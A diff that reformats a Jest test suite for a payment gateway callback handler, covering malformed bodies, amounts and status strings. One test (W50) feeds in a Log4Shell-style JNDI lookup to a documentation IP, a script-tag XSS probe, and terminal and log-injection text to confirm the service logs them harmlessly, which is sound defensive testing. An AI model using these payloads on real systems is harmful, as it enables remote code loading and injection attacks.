@@ -2,7 +2,20 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { sign } from '../../src/gateway/signature.js';
 import { apiKey, merchantKey, payoutKey, startTestService, until, type TestService } from '../support/service.js';
 import { startGatewayDouble, type GatewayDouble } from './gateway-double.js';
-import { acknowledged, expectSetAside, head, kept, openPayment, said, saidWith, statusOf, stored, story, tx, untouched } from './support.js';
+import {
+  acknowledged,
+  expectSetAside,
+  head,
+  kept,
+  openPayment,
+  said,
+  saidWith,
+  statusOf,
+  stored,
+  story,
+  tx,
+  untouched,
+} from './support.js';
 
 let gateway: GatewayDouble;
 let shop: TestService;
@@ -18,17 +31,32 @@ afterAll(async () => {
 
 const asked = (trackId: string): Promise<boolean> => until(() => Promise.resolve(gateway.asked.includes(trackId)));
 const open = (): ReturnType<typeof openPayment> => openPayment(shop);
-const setAside = (payment: Awaited<ReturnType<typeof openPayment>>, body: string | Buffer, reason: string): Promise<void> =>
-  expectSetAside(shop, payment, body, reason);
+const setAside = (
+  payment: Awaited<ReturnType<typeof openPayment>>,
+  body: string | Buffer,
+  reason: string,
+): Promise<void> => expectSetAside(shop, payment, body, reason);
 const storyOf = (id: string): Promise<string[]> => story(shop.database.pool, id);
 
 describe('The form of a signed body', () => {
   it('W19: the content type is ignored, the body is JSON', async () => {
-    const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/octet-stream', 'application/json; charset=utf-16', 'rubbish', 'text/', '/', ';;;', ''];
+    const types = [
+      'text/plain',
+      'application/x-www-form-urlencoded',
+      'multipart/form-data; boundary=x',
+      'application/octet-stream',
+      'application/json; charset=utf-16',
+      'rubbish',
+      'text/',
+      '/',
+      ';;;',
+      '',
+    ];
     const payment = await open();
     for (const [n, type] of types.entries()) {
       const body = said(payment, { status: 'Waiting', txs: [], value: n + 1 });
-      const request = head({ HMAC: sign(body, merchantKey), 'Content-Type': type, 'Content-Length': String(body.length) }) + body;
+      const request =
+        head({ HMAC: sign(body, merchantKey), 'Content-Type': type, 'Content-Length': String(body.length) }) + body;
       expect([type, await statusOf(shop.config.port, request)]).toEqual([type, 200]);
       expect(await kept(shop.database.pool, body)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);
     }
@@ -59,7 +87,8 @@ describe('The form of a signed body', () => {
   it('W23: a scalar, null or a list is kept', async () => {
     const payment = await open();
     await setAside(payment, 'null', 'missing_field');
-    for (const body of ['12', '"Paid"', 'true', '[]', `[${said(payment)}]`]) await setAside(payment, body, 'wrong_type');
+    for (const body of ['12', '"Paid"', 'true', '[]', `[${said(payment)}]`])
+      await setAside(payment, body, 'wrong_type');
     await setAside(payment, '{}', 'missing_field');
   });
 
@@ -70,14 +99,26 @@ describe('The form of a signed body', () => {
     await setAside(payment, Buffer.from(`\ufeff${text}`, 'utf16le'), 'not_utf8');
     await setAside(payment, Buffer.from(said(payment), 'utf16le'), 'not_json');
     await setAside(payment, Buffer.from(text, 'latin1'), 'not_utf8');
-    await setAside(payment, Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.from([0xed, 0xa0, 0x80, 0x7d])]), 'not_utf8');
+    await setAside(
+      payment,
+      Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.from([0xed, 0xa0, 0x80, 0x7d])]),
+      'not_utf8',
+    );
   });
 
-  it('W25: a key that stands twice is not resolved by anybody\'s habit', async () => {
+  it("W25: a key that stands twice is not resolved by anybody's habit", async () => {
     const payment = await open();
-    await setAside(payment, said(payment).replace('"status":"Paid"', '"status":"Paying","status":"Paid"'), 'duplicate_key');
+    await setAside(
+      payment,
+      said(payment).replace('"status":"Paid"', '"status":"Paying","status":"Paid"'),
+      'duplicate_key',
+    );
     await asked(payment.trackId);
-    await setAside(payment, said(payment).replace('"status":"Paid"', '"status":"Paid","stat\\u0075s":"Paid"'), 'duplicate_key');
+    await setAside(
+      payment,
+      said(payment).replace('"status":"Paid"', '"status":"Paid","stat\\u0075s":"Paid"'),
+      'duplicate_key',
+    );
     const txs = JSON.stringify([tx()]).replace('"currency":', '"sent_amount":999,"currency":');
     await setAside(payment, saidWith(payment, 'txs', txs), 'duplicate_key');
   });
@@ -97,7 +138,9 @@ describe('The form of a signed body', () => {
     for (const text of ['\\u0000', '\\ud800', '\\udc00x', '\\ud800\\u0041']) {
       await setAside(payment, saidWith(payment, 'note', `"a${text}b"`), 'forbidden_character');
     }
-    const read = saidWith(payment, 'note', '"\\ud83d\\ude00"').replace('"Paid"', '"Waiting"').replace(/"txs":.*$/, '"txs":[]}');
+    const read = saidWith(payment, 'note', '"\\ud83d\\ude00"')
+      .replace('"Paid"', '"Waiting"')
+      .replace(/"txs":.*$/, '"txs":[]}');
     expect(await shop.callback(read)).toEqual(acknowledged);
     expect(await kept(shop.database.pool, read)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);
   });
@@ -113,11 +156,29 @@ describe('The form of a signed body', () => {
 describe('Amounts', () => {
   it('W29: absurd ones are set aside', async () => {
     const payment = await open();
-    for (const amount of ['1e400', '-1', '-0', '0', '"0"', '0.00', '0e9', '"NaN"', '"Infinity"', '"-Infinity"', '1'.repeat(40), `0.${'1'.repeat(40)}`, '1e-400']) {
+    for (const amount of [
+      '1e400',
+      '-1',
+      '-0',
+      '0',
+      '"0"',
+      '0.00',
+      '0e9',
+      '"NaN"',
+      '"Infinity"',
+      '"-Infinity"',
+      '1'.repeat(40),
+      `0.${'1'.repeat(40)}`,
+      '1e-400',
+    ]) {
       await setAside(payment, saidWith(payment, 'amount', amount), 'absurd_number');
     }
     for (const sent of ['1e400', '-10.5', '-0', '"NaN"', '9'.repeat(40)]) {
-      await setAside(payment, saidWith(payment, 'txs', JSON.stringify([tx({ sent_amount: '@' })]).replace('"@"', sent)), 'absurd_number');
+      await setAside(
+        payment,
+        saidWith(payment, 'txs', JSON.stringify([tx({ sent_amount: '@' })]).replace('"@"', sent)),
+        'absurd_number',
+      );
     }
     await asked(payment.trackId);
   });
@@ -127,31 +188,72 @@ describe('Amounts', () => {
       const payment = await open();
       const body = saidWith(payment, 'amount', amount);
       expect(await shop.callback(body)).toEqual(acknowledged);
-      expect([amount, await storyOf(payment.id)]).toEqual([amount, [...untouched, 'GatewayReported', 'TransferDetected', 'AmountAssessed', 'PaymentPaid']]);
+      expect([amount, await storyOf(payment.id)]).toEqual([
+        amount,
+        [...untouched, 'GatewayReported', 'TransferDetected', 'AmountAssessed', 'PaymentPaid'],
+      ]);
     }
   });
 
   it('W31: every digit is kept, exponents are understood; more decimals than the currency has are set aside', async () => {
     const payment = await openPayment(shop, { amount: '0.00003079', currency: 'BTC' });
     const money = { amount: '@amount@', currency: 'BTC', value: 3.32, status: 'Paying' };
-    const transfer = tx({ currency: 'BTC', network: 'Bitcoin Network', sent_amount: '@sent@', received_amount: '@received@', value: 3.32, status: 'confirming' });
+    const transfer = tx({
+      currency: 'BTC',
+      network: 'Bitcoin Network',
+      sent_amount: '@sent@',
+      received_amount: '@received@',
+      value: 3.32,
+      status: 'confirming',
+    });
     const body = said(payment, { ...money, txs: [transfer] })
-      .replace('"@amount@"', '3.079e-5').replace('"@sent@"', '3.079e-5').replace('"@received@"', '0.0000302342345678901234');
+      .replace('"@amount@"', '3.079e-5')
+      .replace('"@sent@"', '3.079e-5')
+      .replace('"@received@"', '0.0000302342345678901234');
     expect(await shop.callback(body)).toEqual(acknowledged);
     const view = await shop.api('GET', `/v1/payments/${payment.id}`);
-    expect(view.body).toMatchObject({ received: '0.00003079', labels: ['sandbox'], transfers: [{ sentAmount: '0.00003079', receivedAmount: '0.0000302342345678901234' }] });
+    expect(view.body).toMatchObject({
+      received: '0.00003079',
+      labels: ['sandbox'],
+      transfers: [{ sentAmount: '0.00003079', receivedAmount: '0.0000302342345678901234' }],
+    });
 
     const tiny = await openPayment(shop, { amount: '0.0000001', currency: 'ETH' });
-    expect(await shop.callback(saidWith(tiny, 'amount', '1e-7').replace('"currency":"USD"', '"currency":"ETH"').replace('"Paid"', '"Waiting"').replace(/"txs":.*$/, '"txs":[]}'))).toEqual(acknowledged);
+    expect(
+      await shop.callback(
+        saidWith(tiny, 'amount', '1e-7')
+          .replace('"currency":"USD"', '"currency":"ETH"')
+          .replace('"Paid"', '"Waiting"')
+          .replace(/"txs":.*$/, '"txs":[]}'),
+      ),
+    ).toEqual(acknowledged);
     expect(await storyOf(tiny.id)).toEqual([...untouched, 'GatewayReported']);
 
     const dollars = await open();
-    for (const amount of ['10.505', '10.5000000000000000001', '1e-7', '"10.500000000000000000000000001"']) await setAside(dollars, saidWith(dollars, 'amount', amount), 'absurd_number');
+    for (const amount of ['10.505', '10.5000000000000000001', '1e-7', '"10.500000000000000000000000001"'])
+      await setAside(dollars, saidWith(dollars, 'amount', amount), 'absurd_number');
   });
 
-  it('W32: what is not a number in JSON\'s notation is none', async () => {
+  it("W32: what is not a number in JSON's notation is none", async () => {
     const payment = await open();
-    for (const amount of ['[10.5]', '{}', '{"value":10.5}', 'true', 'false', '"12abc"', '"0x10"', '" 12 "', '""', '"\u0661\u0660"', '"\uff11\uff10"', '"1,5"', '"1_0"', '"+10.5"', '"10.5\\n"', '".5"']) {
+    for (const amount of [
+      '[10.5]',
+      '{}',
+      '{"value":10.5}',
+      'true',
+      'false',
+      '"12abc"',
+      '"0x10"',
+      '" 12 "',
+      '""',
+      '"\u0661\u0660"',
+      '"\uff11\uff10"',
+      '"1,5"',
+      '"1_0"',
+      '"+10.5"',
+      '"10.5\\n"',
+      '".5"',
+    ]) {
       await setAside(payment, saidWith(payment, 'amount', amount), 'wrong_type');
     }
   });
@@ -177,17 +279,30 @@ describe('Names and words', () => {
       expect([status, await storyOf(payment.id)]).toEqual([status, expect.arrayContaining(['PaymentPaid'])]);
     }
     const payment = await open();
-    for (const status of ['PA\u0130D', 'pa\u0131d', 'pa\u0456d', '\uff30aid', 'Paid\u200b', ' Paid', 'Manual Accept\u212a', 'new\u212a', 'PAID\u0000'.slice(0, 4) + '.']) {
+    for (const status of [
+      'PA\u0130D',
+      'pa\u0131d',
+      'pa\u0456d',
+      '\uff30aid',
+      'Paid\u200b',
+      ' Paid',
+      'Manual Accept\u212a',
+      'new\u212a',
+      'PAID\u0000'.slice(0, 4) + '.',
+    ]) {
       await setAside(payment, said(payment, { status }), 'unknown_status');
     }
   });
 
   it('W35: an unknown status is set aside and the gateway asked; unknown members and a new type are let pass', async () => {
     const payment = await open();
-    for (const status of ['Disputed', 'Paid!', 'settled']) await setAside(payment, said(payment, { status }), 'unknown_status');
+    for (const status of ['Disputed', 'Paid!', 'settled'])
+      await setAside(payment, said(payment, { status }), 'unknown_status');
     await asked(payment.trackId);
-    for (const status of ['', null, undefined]) await setAside(payment, said(payment, { status, note: String(status) }), 'missing_field');
-    for (const status of [1, true, ['Paid'], { Paid: true }]) await setAside(payment, said(payment, { status }), 'wrong_type');
+    for (const status of ['', null, undefined])
+      await setAside(payment, said(payment, { status, note: String(status) }), 'missing_field');
+    for (const status of [1, true, ['Paid'], { Paid: true }])
+      await setAside(payment, said(payment, { status }), 'wrong_type');
 
     const body = said(payment, { new_member: { deep: [1, { x: null }] }, type: 'subscription' });
     expect(await shop.callback(body)).toEqual(acknowledged);
@@ -197,8 +312,21 @@ describe('Names and words', () => {
 
   it('members that are null, empty or missing stop nothing', async () => {
     const payment = await open();
-    const less = { email: null, note: null, sent_value: undefined, order_id: '', description: undefined, module_name: null, date: null, value: null };
-    expect(await shop.callback(said(payment, { ...less, txs: [tx({ sender_address: null, sent_value: undefined, date: null, rate: null })] }))).toEqual(acknowledged);
+    const less = {
+      email: null,
+      note: null,
+      sent_value: undefined,
+      order_id: '',
+      description: undefined,
+      module_name: null,
+      date: null,
+      value: null,
+    };
+    expect(
+      await shop.callback(
+        said(payment, { ...less, txs: [tx({ sender_address: null, sent_value: undefined, date: null, rate: null })] }),
+      ),
+    ).toEqual(acknowledged);
     expect(await storyOf(payment.id)).toContain('PaymentPaid');
     for (const txs of [null, undefined, []]) {
       const other = await open();
@@ -209,7 +337,8 @@ describe('Names and words', () => {
 
   it('W50: text that means something to a terminal, a log reader or a lookup is kept and logged as one harmless line', async () => {
     const payment = await open();
-    const nasty = 'a\nb\r\n{"level":"fatal"}\u001b[31mred\u001b[0m ${jndi:ldap://203.0.113.1/x} <script>alert(1)</script>';
+    const nasty =
+      'a\nb\r\n{"level":"fatal"}\u001b[31mred\u001b[0m ${jndi:ldap://203.0.113.1/x} <script>alert(1)</script>';
     for (const changes of [{ note: nasty }, { description: nasty }, { module_name: nasty }, { email: nasty }]) {
       const before = (await storyOf(payment.id)).length;
       const body = said(payment, { status: 'Waiting', txs: [], ...changes });
@@ -228,7 +357,8 @@ describe('Names and words', () => {
     for (const line of shop.logged) {
       expect(line.endsWith('\n') && !line.slice(0, -1).includes('\n') && !line.includes('\u001b')).toBe(true);
       const fields = JSON.parse(line) as Record<string, unknown>;
-      for (const value of Object.values(fields)) if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(1024);
+      for (const value of Object.values(fields))
+        if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(1024);
       expect(line).not.toContain('jndi');
       expect(line).not.toContain('x'.repeat(257));
     }
